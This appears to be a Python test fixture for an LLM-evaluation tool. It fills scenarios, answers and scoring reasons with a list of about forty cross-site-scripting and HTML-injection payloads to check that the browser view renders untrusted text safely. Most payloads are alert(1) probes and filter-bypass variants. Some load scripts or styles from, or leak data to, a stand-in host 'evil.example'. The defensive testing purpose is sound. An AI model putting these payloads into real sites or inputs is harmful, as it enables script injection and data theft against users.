"""What the browser is shown: hostile texts wherever a text is somebody else's."""

from typing import Any

from cupel_core.domain.conversations.model_request import Message, MessageRole
from cupel_core.domain.definitions.scenarios import Scenario
from cupel_core.domain.runs.run import Run
from cupel_core.domain.runs.transcripts import Summary
from cupel_core.domain.scoring.assertions import AssertionResult
from cupel_core.domain.scoring.scoring import Scoring, build_scoring
from tests.answered_runs import AnsweredRun
from tests.started_runs import NOW

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png?data)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "{{constructor.constructor('alert(1)')()}}",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "</script><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "\u202e<b>reversed</b>\u200b",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='animation: x 1s' onanimationstart=alert(1)>x</div>",
    "<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form><input name=attributes><input name=innerHTML></form>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<object data=https://evil.example/x><embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/x) }</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1)) <javascript:alert(1)> [x]: javascript:alert(1) 'x'",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "${alert(1)} `${alert(1)}` %3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
HOSTILE = " ".join(PAYLOADS)
SHORT_HOSTILE = " ".join(PAYLOADS[:11])
"""For fields of at most a thousand characters or two."""
SCENARIOS = tuple(
    Scenario("", name, (Message(MessageRole.SYSTEM, "Be brief."), Message(MessageRole.USER, f"{name}?")))
    for name in ("Refund of a late order", "Allergy and a recipe", "A minor asks for advice", PAYLOADS[0], PAYLOADS[1])
)


def scoring(index: int) -> Scoring:
    passed = index % 3 != 1
    reason = "names the refund" if passed else f"does not name the refund: {PAYLOADS[index % len(PAYLOADS)]}"
    tag = None if passed else ("GOAL_MISS", "REFUSAL", PAYLOADS[0])[index % 4 % 3]
    return build_scoring(None, None, (AssertionResult("llm-rubric", passed, 1.0 if passed else 0.2, reason, tag=tag),))


def answer(index: int) -> str | None:
    return None if index == 7 else f"{PAYLOADS[index % len(PAYLOADS)]} answer {index}, and a sentence. " * 3


def sample_run(**changes: Any) -> Run:
    given: dict[str, Any] = {
        "workspace": "acme",
        "scenarios": SCENARIOS,
        "models": ("sim/steady", "sim/bold", "sim/contrarian"),
        "repeats": 4,
        "answer": answer,
        "scoring": scoring,
        "summary": Summary("2", "leans towards no", NOW),
    }
    return AnsweredRun(**{**given, **changes}).completed()
